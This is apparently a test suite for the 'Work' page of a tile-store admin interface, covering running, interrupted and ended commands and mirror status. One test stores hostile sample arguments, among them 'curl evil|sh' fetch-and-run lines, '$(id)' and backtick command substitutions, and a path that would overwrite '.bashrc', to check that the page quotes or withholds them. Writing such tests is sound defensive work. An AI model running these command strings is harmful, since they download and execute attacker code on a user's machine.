// Tests the section Work of the control room: commands that run, were interrupted or have ended; mirrors that write
// into this store, and mirrors of this store on other machines.
import assert from 'node:assert/strict'
import { mkdir, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { TIME_FACTOR, end, until } from '../../bench/wait.js'
import { workId } from '../../core/index.js'
import { Store } from '../../loader/index.js'
import { runCommand } from '../support/cli.js'
import { startCommand } from '../support/command.js'
import { useFolder } from '../support/folder.js'
import { startUpstream } from '../support/upstream-server.js'
import { png, square } from '../support/tiles.js'
import { isRead, onAdmin, runOf, timeOf } from '../support/control-room.js'
import { becomeUser, enterSection, writeDocuments } from './steps.js'

const LIVE = 2000 // milliseconds within which a change must show
const LOOK = 5000 // milliseconds between two looks of the page at mirrors on other machines
const RUNS = 2000
const DAY = 86_400_000 // milliseconds

const part = (page, head) => page.locator('.work .card').filter({ has: page.getByRole('heading', { name: head }) })

onAdmin('the section Work', (stage, kind) => {
  const folder = useFolder()

  /** Writes a document of work. */
  const write = async (fields, time = Date.now()) => {
    const _id = workId(runOf(time, Math.floor(Math.random() * 36 ** 4)))
    const times = { started: timeOf(time), seen: timeOf(time) }
    await stage.store.couch.update(_id,
      () => ({ type: 'work', state: 'running', user: stage.owner.name, ...times, ...fields }))
    return _id
  }

  /** Runs a command to its end. */
  const finish = async argv => {
    const { code, err } = await runCommand(argv)
    assert.equal(code, 0, err)
  }

  /** Opens the section on a page whose clock can be moved forward. */
  const enterWithClock = async () => {
    const page = await stage.enter('layers')
    await page.clock.install()
    await page.locator('#sections').getByText('Work').click()
    await isRead(page, '.work')
    return page
  }

  /** Makes a running command look as if it was last seen ten minutes ago. */
  const age = async command => {
    const range = { startkey: 'work:', endkey: 'work;', include_docs: true }
    const row = await until(async () =>
      (await stage.store.couch.page(range)).find(({ doc }) => doc.command === command))
    await stage.store.couch.update(row.id, doc => ({ ...doc, seen: timeOf(Date.now() - 600_000) }))
  }

  beforeEach(async () => {
    await stage.store.defineLayer('osm')
    const rows = (await stage.store.couch.page({ startkey: 'work:', endkey: 'work;' }))
    await stage.store.couch.bulk(rows.map(({ id, value }) => ({ _id: id, _rev: value.rev, _deleted: true })))
  })

  it('shows a running load, and after a kill as interrupted with the command to continue', async function () {
    this.timeout(90000)
    const upstream = await startUpstream()
    const page = await stage.enter('work')
    await part(page, 'Running now').getByText('No command runs at the moment.').waitFor()
    const source = `${upstream.url}/xyz/{z}/{x}/{y}.png`
    // batches of one tile: the first document of the work has a rate
    const load = ['load', source, '--layer', 'town', '--bbox', '-180,-85,180,85', '--zoom', '0-6',
      '--rate', '20/s', '--batch', '1', '--time', '2024', '--db', stage.backend.database]
    // set in the environment: the control room repeats no command with an option that opens inner networks
    const { child } = startCommand(load, { env: { TILECOUCH_UPSTREAM_NETWORKS: '127.0.0.1' } })
    try {
      const running = part(page, 'Running now').locator('.run')
      await running.getByText('load town').waitFor()
      await running.getByText(/^\d+ of 5,461 tiles/).waitFor()
      await running.getByRole('progressbar').waitFor()
      await running.getByText(/about .* left/).waitFor()
      await running.getByText(`by ${stage.owner.name}`).waitFor()
      await end(child, 'SIGKILL')
      await age('load')
      const killed = part(page, 'Interrupted').locator('.run').filter({ hasText: 'load town' })
      await killed.waitFor()
      await part(page, 'Running now').getByText('No command runs at the moment.').waitFor()
      const line = await killed.locator('code').innerText()
      assert.match(line, /^tilecouch load .* --layer town/)
      assert.doesNotMatch(line, /:\/\/[^/]*:[^/]*@/, 'without a password')
    } finally {
      await end(child, 'SIGKILL')
      await upstream.close()
    }
  })

  it('shows a command as interrupted after a long silence, without a new document', async () => {
    const page = await enterWithClock()
    const times = { started: timeOf(Date.now() - 60_000), seen: timeOf(Date.now() - 15_000) }
    await write({ command: 'seed', layer: 'osm', args: ['seed', 'osm'], ...times })
    await part(page, 'Running now').getByText('seed osm').waitFor({ timeout: LIVE * TIME_FACTOR })
    await page.clock.fastForward(6000)
    await part(page, 'Interrupted').getByText('seed osm', { exact: true }).waitFor()
    assert.match(await part(page, 'Interrupted').locator('code').innerText(), /^tilecouch seed( --db http:\S+)? osm$/)
  })

  it('offers no command from unsafe arguments, and quotes the arguments of the others', async () => {
    const page = await enterSection(stage, 'work')
    const evil = 'tilecouch load x ; curl evil|sh'
    const ended = { command: 'load', state: 'failed', finished: timeOf(Date.now()) }
    await write({ ...ended, layer: 'free', line: evil, args: ['load', 'tiles', '--db', 'http://evil/tiles'] })
    await write(
      { ...ended, layer: 'turned', line: evil, args: ['load', '\u202etiles'], error: { message: 'a\u202eb' } }
    )
    await write({ ...ended, command: 'doctor', layer: 'repaired', args: ['doctor', '--fix', '--cors', '*'] })
    await write(
      { ...ended, command: 'seed', layer: 'overwritten', args: ['seed', 'osm', '--failed', '/home/admin/.bashrc'] }
    )
    await write({ ...ended, layer: 'quoted', args: ['load', "it's ; curl evil|sh", '$(id)', '`id`'] })
    const row = name => part(page, 'Ended').locator('tbody tr').filter({ hasText: name })
    await row('turned').waitFor()
    const line = await row('quoted').locator('code').textContent()
    assert.match(line ?? '', /^tilecouch load( --db http:\S+)? 'it'\\''s ; curl evil\|sh' '\$\(id\)' '`id`'$/)
    assert.equal(await part(page, 'Ended').locator('code').count(), 1)
    assert.match(await row('turned').locator('.why').innerText(), /^a\ufffdb/)
  })

  it('shows the end of a load and a check, and a failed command with its advice', async function () {
    this.timeout(90000)
    const page = await enterSection(stage, 'work')
    const tiles = path.join(folder.dir, 'tiles', '5', '1')
    await mkdir(tiles, { recursive: true })
    for (let y = 0; y < 3; y++) await writeFile(path.join(tiles, `${y}.png`), png(y))
    const load = ['load', path.join(folder.dir, 'tiles'), '--layer', 'osm', '--time', '2024']
    for (const { argv, unit } of [{ argv: load, unit: 'tiles' }, { argv: ['check', 'osm'], unit: 'versions' }]) {
      await finish([...argv, '--db', stage.backend.database])
      const row = part(page, 'Ended').locator('tbody tr').filter({ has: page.locator('th', { hasText: argv[0] }) })
      await row.getByText('Done', { exact: true }).waitFor({ timeout: LIVE * TIME_FACTOR })
      await row.getByText(new RegExp(`^3( of 3)? ${unit}`)).waitFor()
    }
    const id = await write({
      command: 'export', layer: 'osm', done: 5, failed: 2,
      failures: ['osm:5:1:1: <b>no</b> image', 'osm:5:1:2: gone'],
      error: { code: 'TARGET_EXISTS', message: 'out.mbtiles exists', advice: 'Use another name.' },
      state: 'failed', finished: timeOf(Date.now() + 1000)
    })
    const row = part(page, 'Ended').locator('tbody tr').first()
    await row.getByText('Use another name.').waitFor({ timeout: LIVE * TIME_FACTOR })
    await row.getByText('[TARGET_EXISTS]').waitFor()
    await row.locator('summary').getByText('2 failures').click()
    await row.getByText('osm:5:1:1: <b>no</b> image').waitFor()
    await row.getByRole('button', { name: 'Remove: export osm' }).click()
    await page.getByRole('dialog').getByRole('button', { name: 'Remove the entry' }).click()
    await part(page, 'Ended').getByText('Use another name.').waitFor({ state: 'detached' })
    assert.equal(await stage.store.couch.get(id), undefined)
  })

  it('shows changes within two seconds, and keeps opened details open', async () => {
    const page = await enterSection(stage, 'work')
    const id = await write(
      { command: 'backup', unit: 'documents', done: 1, total: 100, failed: 1, failures: ['osm:1:1:1: gone'], rate: 10 }
    )
    const running = part(page, 'Running now').locator('.run')
    await running.getByText('1 of 100 documents').waitFor({ timeout: LIVE * TIME_FACTOR })
    await running.getByText('1 failure', { exact: true }).click()
    await stage.store.couch.update(id, doc => ({ ...doc, done: 60, seen: timeOf(Date.now()) }))
    await running.getByText(/^60 of 100 documents · 10 a second · about 4 secs? left · 1 failure$/)
      .waitFor({ timeout: LIVE * TIME_FACTOR })
    await running.getByText('osm:1:1:1: gone').waitFor()
    await stage.store.couch.update(id, doc => ({ ...doc, state: 'stopped', finished: timeOf(Date.now()) }))
    await part(page, 'Ended').locator('tbody').getByText('Stopped').waitFor({ timeout: LIVE * TIME_FACTOR })
    assert.equal(await running.count(), 0)
  })

  it('shows all commands to a writer, who can remove only their own entries', async () => {
    for (const user of ['wanda', 'otto']) {
      await write({ command: 'check', layer: user, user, state: 'done', finished: timeOf(Date.now()) })
    }
    const page = await stage.visit('work')
    await becomeUser(page, { name: 'wanda', role: 'tilecouch-writer' })
    await isRead(page, '.work')
    await part(page, 'Ended').locator('tbody tr').nth(1).waitFor()
    assert.deepEqual(await page.locator('#sections a').allInnerTexts(), ['Layers', 'Work'])
    assert.deepEqual(await part(page, 'Ended').getByRole('button', { name: /^Remove/ })
      .evaluateAll(buttons => buttons.map(button => button.getAttribute('aria-label'))), ['Remove: check wanda'])
  })

  it('fills in a command for a layer', async () => {
    await stage.store.defineLayer('osm', { bounds: [5, 45, 11, 48], minzoom: 2, maxzoom: 9 })
    const page = await stage.enter('work')
    const start = part(page, 'Start something')
    const lines = {
      load: /^tilecouch load tiles\/ --layer LAYER/, export: /^tilecouch export osm tiles.pmtiles/,
      seed: /^tilecouch seed osm --bbox 5,45,11,48 --zoom 2-9/, prune: /^tilecouch prune osm/,
      check: /^tilecouch check osm/, backup: /^tilecouch backup store.tcb/
    }
    for (const [name, line] of Object.entries(lines)) {
      await start.getByLabel('Command').selectOption(name)
      await start.locator('code').filter({ hasText: line }).waitFor()
    }
    await start.getByLabel('Command').selectOption('prune')
    await start.getByLabel('Layer').selectOption('')
    await start.locator('code').filter({ hasText: /^tilecouch prune --all/ }).waitFor()
    await start.getByLabel('Command').selectOption('export')
    await start.locator('code').filter({ hasText: lines.export }).waitFor()
  })

  it('draws a part of many past runs, and filters them', async () => {
    const now = Date.now()
    await writeDocuments(stage, Array.from({ length: RUNS }, (_, number) => {
      const time = now - Math.floor(number * 80 * DAY / RUNS) - DAY
      const isRare = number === RUNS - 1
      return {
        _id: workId(runOf(time, number)), type: 'work', command: isRare ? 'backup' : 'load',
        layer: `sheet-${number % 200}`,
        state: number % 50 ? 'done' : 'failed', started: timeOf(time),
        seen: timeOf(time + 9000), finished: timeOf(time + 9000),
        unit: 'tiles', done: 1000, total: 1000, rate: 111, user: stage.owner.name
      }
    }))
    const page = await stage.enter('layers')
    await page.locator('#sections').getByText('Work').click()
    const past = part(page, 'Ended')
    await past.getByText('2,000 in all').waitFor()
    await past.locator('tbody tr').nth(49).waitFor()
    assert.equal(await past.locator('tbody tr').count(), 50)
    await past.getByLabel('Result').selectOption('failed')
    await past.getByText('40 of 2,000').waitFor()
    await past.getByLabel('Layer').selectOption('sheet-50')
    await past.getByText('10 of 2,000').waitFor()
    await past.getByLabel('Result').selectOption('')
    await past.getByLabel('Layer').selectOption('')
    await past.getByLabel('Command').selectOption('backup')
    await past.getByText('1 of 2,000').waitFor()
    await past.getByLabel('Command').selectOption('')
    await past.getByRole('button', { name: 'Show more' }).click()
    await past.locator('tbody tr').nth(99).waitFor()
    // a change of a running command does not redraw the ended commands
    await past.locator('tbody tr').first().evaluate(row => { row.id = 'same' })
    await write({ command: 'seed', layer: 'osm', done: 1 })
    await part(page, 'Running now').getByText('seed osm').waitFor({ timeout: LIVE * TIME_FACTOR })
    assert.equal(await page.locator('#same').count(), 1)
  })

  describe('mirrors', () => {
    /** @type {Store} */
    let otherStore
    let otherUrl = ''

    before(async () => {
      otherUrl = new URL(`/mirror_${process.pid}_${Date.now().toString(36)}`, stage.backend.database).href
      otherStore = await Store.create(otherUrl, { public: true })
      await otherStore.defineLayer('sea')
      await otherStore.write(square({ layer: 'sea', time: '2021-01-01T00:00:00Z', side: 2, seed: (x, y) => x * 2 + y }))
      await stage.store.defineLayer('land')
    })
    // the folder of an embedded store is already removed
    after(() => kind === 'CouchDB' && otherStore?.destroy())

    it('are shown with their source and target, and as interrupted after a long silence', async function () {
      this.timeout(90000)
      const page = await enterSection(stage, 'work')
      const { child } = startCommand(['mirror', otherUrl, stage.backend.database, '--live', '--layer', 'sea'])
      const running = part(page, 'Running now').locator('.run').filter({ hasText: otherStore.couch.db })
      try {
        await running.getByText(/^up to date · .* documents/).waitFor()
        await running.getByText(`/${otherStore.couch.db} → `).waitFor()
      } finally {
        await end(child, 'SIGKILL')
      }
      await age('mirror')
      const interrupted = part(page, 'Interrupted').locator('.run').filter({ hasText: otherStore.couch.db })
      await interrupted.getByText('To go on:').waitFor()
      // only the command names the user, of a CouchDB
      const [, database] = stage.command('').split(' --db ')
      assert.doesNotMatch((await interrupted.innerText()).replace(` ${database} `, ''), /:\/\/[^/]*@/)
    })

    it('show their lag, their refused documents, and that they wait for a store', async () => {
      const now = Date.now()
      const mirrorWork = (number, about) => ({
        _id: workId(runOf(now, number)), type: 'work', command: 'edge',
        args: ['edge', 'x'], state: 'running', user: stage.owner.name,
        started: timeOf(now), seen: timeOf(now), every: 30, unit: 'documents', done: 100,
        about: {
          source: `https://anna:secret@main-${number}.example.org/tiles`,
          target: 'embedded', state: 'following', lag: 1, refused: 0, ...about
        }
      })
      const docs = [mirrorWork(1, { lag: 900 }), mirrorWork(2, { refused: 3 }), mirrorWork(3, { state: 'away' })]
      await writeDocuments(stage, docs)
      const page = await enterSection(stage, 'work')
      const run = number => part(page, 'Running now').locator('.run')
        .filter({ hasText: `https://main-${number}.example.org/tiles → embedded` })
      await run(1).getByText(/^up to date · 15 mins? behind · 100 documents$/).waitFor()
      await run(2).getByText(/^up to date · 100 documents · 3 refused$/).waitFor()
      await run(3).getByText(/^waits for a store · 100 documents$/).waitFor()
    })

    it('on other machines are shown by their checkpoints, with their layers and lag', async function () {
      this.timeout(60000)
      const mirror = ['mirror', stage.backend.database, otherUrl, '--layer', 'land']
      const page = await enterWithClock()
      const copies = part(page, 'Mirrors on other machines')
      assert.equal(await copies.isVisible(), false, 'a mirror into this store is none of it')
      await finish(mirror)
      await page.clock.fastForward(LOOK)
      const row = copies.locator('tbody tr').filter({ hasText: otherStore.couch.db })
      await row.getByText(/^\d+ changes? behind$|^up to date$/).waitFor()
      assert.match(await row.innerText(), /\bland\b/)
      assert.match(await row.locator('td').last().innerText(), /^\d{1,2} \w+ 20\d\d/)
      await stage.store.write(square({ layer: 'land', time: '2021-01-01T00:00:00Z', side: 3, seed: () => 1 }))
      await page.clock.fastForward(LOOK)
      await row.getByText(/^\d+ changes behind$/).waitFor()
      assert.equal(await row.count(), 1)
    })

    it('can be started by a command that the page fills in without the password', async () => {
      const page = await stage.enter('work')
      const start = part(page, 'Start something')
      await start.getByLabel('Command').selectOption('mirror')
      await start.getByLabel('Folder, file or address').fill('https://anna:secret@maps.example.org/tiles')
      const command = /^tilecouch mirror \S+ https:\/\/maps\.example\.org\/tiles --live$/
      await start.locator('code').filter({ hasText: command }).waitFor()
    })
  })
})
